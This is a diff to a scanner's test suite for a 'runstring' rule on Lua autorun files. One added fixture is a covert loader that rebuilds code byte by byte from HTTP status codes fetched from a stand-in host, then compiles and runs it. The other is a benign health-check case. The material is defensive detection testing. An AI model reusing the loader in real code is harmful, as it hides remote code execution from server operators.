@@ -687,6 +687,49 @@ describe('runstring', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('code carried one byte per HTTP status code by a chain of requests, then compiled', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local Edge = { codes = {}, n = 0 }',
+        'local function Rebuild()',
+        '  local codes = Edge.codes',
+        '  Edge.codes = {}',
+        '  if #codes == 0 then return end',
+        '  local out = {}',
+        '  for i = 1, #codes do out[i] = string.char(codes[i]) end',
+        '  local f = CompileString(table.concat(out), "edge", false)',
+        '  if isfunction(f) then f() end',
+        'end',
+        'local function Probe()',
+        '  Edge.n = Edge.n + 1',
+        '  HTTP({ url = "https://x.invalid/edge/" .. Edge.n, method = "HEAD", success = function(code)',
+        '    if code == 200 then return Rebuild() end',
+        '    Edge.codes[#Edge.codes + 1] = code - 400',
+        '    Probe()',
+        '  end })',
+        'end',
+        'timer.Simple(900, Probe)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('HTTP status codes counted by class for a health page (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local Stats = { byClass = {} }',
+        'local function Probe()',
+        '  HTTP({ url = "https://x.invalid/health", method = "HEAD", success = function(code)',
+        '    local class = math.floor(code / 100)',
+        '    Stats.byClass[class] = (Stats.byClass[class] or 0) + 1',
+        '    if code ~= 200 then timer.Simple(30, Probe) end',
+        '  end })',
+        'end',
+        'timer.Create("health", 300, 0, Probe)',
+        'local f = CompileString("return 1", "const", false)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
   it('a sink picked at run time from a list of names', () => {
     const findings = check(rule, {
       'lua/autorun/server/sv_x.lua': [
